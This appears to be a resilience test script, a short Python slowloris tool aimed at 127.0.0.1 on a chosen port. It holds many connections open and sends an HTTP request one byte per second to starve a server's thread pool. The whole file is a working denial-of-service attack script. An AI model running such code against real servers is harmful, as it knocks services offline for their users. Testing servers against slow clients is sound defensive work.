#!/usr/bin/env python3
# Holds N connections that send a request's headers one byte every second
# (a slow client, "slowloris"), for D seconds: a server that gives each
# connection a thread of a fixed pool stops answering anyone else.
import socket, sys, time
port, n, duration = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
request = b"GET /api/v1/families/stop-djvu HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10000
socks = []
for _ in range(n):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.setblocking(False)
        socks.append(s)
    except OSError:
        pass
end = time.time() + duration
i = 0
while time.time() < end:
    for s in socks:
        try:
            s.send(request[i % len(request):i % len(request) + 1])
        except OSError:
            pass
    i += 1
    time.sleep(1)
print(f"slow clients held: {len(socks)}")
